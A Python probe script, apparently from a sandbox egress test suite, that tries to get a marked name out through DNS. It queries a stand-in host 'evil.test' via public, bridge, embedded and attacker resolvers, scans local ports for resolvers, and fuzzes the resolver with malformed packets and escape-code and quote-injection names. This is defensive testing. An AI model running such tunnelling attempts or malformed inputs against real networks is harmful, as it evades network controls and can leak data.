"""Attempts to get words out by way of the name service."""

import os
import re
import socket
import struct

import plan
from attempt import attempt, dig, each, main, run

# Who runs this marks its questions, so that the journal tells the runs apart.
MARK = os.environ.get("PROBE_MARK", "unmarked")
SECRET = f"{MARK}.tunnel.evil.test"


@each("tunnel", {
    "configured": ("TXT", SECRET),
    "configured-tcp": ("TXT", SECRET, "+tcp"),
    "address": ("A", SECRET),
    "no-recursion": ("TXT", SECRET, "+norecurse"),
    "public": ("@8.8.8.8", "TXT", SECRET),
    "public-tcp": ("@8.8.8.8", "TXT", SECRET, "+tcp"),
    "own-server": (f"@{plan.EVIL}", "TXT", SECRET),
    "own-server-tcp": (f"@{plan.EVIL}", "TXT", SECRET, "+tcp"),
    "upstream": (f"@{plan.RESOLVER}", "TXT", SECRET),
    "upstream-tcp": (f"@{plan.RESOLVER}", "TXT", SECRET, "+tcp"),
    "embedded": ("@127.0.0.11", "TXT", SECRET),
    "bridge": ("@172.17.0.1", "TXT", SECRET),
    "bridge-tcp": ("@172.17.0.1", "TXT", SECRET, "+tcp"),
    "reverse": ("-x", plan.EVIL),
})
def tunnel(*arguments):
    return dig(*arguments)


@attempt
def tunnel_by_library():
    return "reached " + socket.getaddrinfo(SECRET, 443)[0][4][0]


@attempt
def tunnel_by_ping():
    code, output = run("ping", "-c", "1", "-W", "1", SECRET)
    return f"reached {output}" if "bytes from" in output else f"closed {code} {output}"


@attempt
def tunnel_by_allowed_suffix():
    """A question below an allowed name is answered here, and asked of nobody until a connection is made."""
    return dig("TXT", f"{MARK}.wild.test")


@attempt
def look_up_only():
    return dig("A", f"only-{MARK}.wild.test")


@each("kind", {
    "a": ("A", "allowed.test"),
    "aaaa": ("AAAA", "dual.wild.test"),
    "txt": ("TXT", "allowed.test"),
    "https": ("HTTPS", "allowed.test"),
    "svcb": ("SVCB", "allowed.test"),
    "mx": ("MX", "allowed.test"),
    "any": ("ANY", "allowed.test"),
    "other-class": ("-c", "CH", "TXT", "allowed.test"),
})
def kind(*arguments):
    return dig(*arguments)


@attempt
def other_resolver_ports():
    """Every port that anything in this network namespace listens on, asked as if it were an engine's resolver."""
    ports, answers = set(), []
    for table in ("udp", "tcp", "udp6", "tcp6"):
        try:
            with open(f"/proc/net/{table}") as file:
                ports |= {int(line.split()[1].rpartition(":")[2], 16) for line in list(file)[1:]}
        except OSError:
            pass
    for port in sorted(ports - {53})[:20]:
        for transport in ("+notcp", "+tcp"):
            answers.append(dig("@127.0.0.11", "-p", str(port), "TXT", SECRET, transport))
    reached = [answer for answer in answers if answer.startswith("reached")]
    return f"reached {reached}" if reached else f"closed {len(answers)}"


def send(message, seconds=1.0):
    """Sends a datagram to the resolver; the code of the answer, if one comes."""
    with open("/etc/resolv.conf") as file:
        server = re.search(r"nameserver\s+(\S+)", file.read())[1]
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.settimeout(seconds)
        channel.connect((server, 53))
        channel.send(message)
        return f"code {channel.recv(4096)[3] & 15}"


def question(name, kind=1, count=1):
    return struct.pack("!HHHHHH", 7, 0x0100, count, 0, 0, 0) + name + struct.pack("!HH", kind, 1)


@each("malformed", {
    "empty": b"",
    "one-byte": b"\0",
    "header-only": question(b"")[:12],
    "pointer-loop": question(b"\xc0\x0c"),
    "pointer-forward": question(b"\xc0\xff"),
    "long-label": question(b"\x40" + b"a" * 64 + b"\0"),
    "long-name": question((b"\x3f" + b"a" * 63) * 5 + b"\0"),
    "no-end": question(b"\x03abc")[:16],
    "many-questions": question(b"\x07allowed\x04test\0", count=65535),
    "answer": struct.pack("!HHHHHH", 7, 0x8180, 1, 1, 0, 0) + b"\x07allowed\x04test\0\0\1\0\1",
    "newline": question(b"\x0ball\"o\nw\x1b[2J\x04test\0"),
    "quotes": question(b"\x07\"},{\"x\":\x04test\0"),
    "invalid-utf8": question(b"\x04\xff\xfe\x80\xc0\x04test\0"),
    "nul": question(b"\x08allowed\0\x04test\0"),
})
def malformed(message):
    return send(message)


if __name__ == "__main__":
    main()
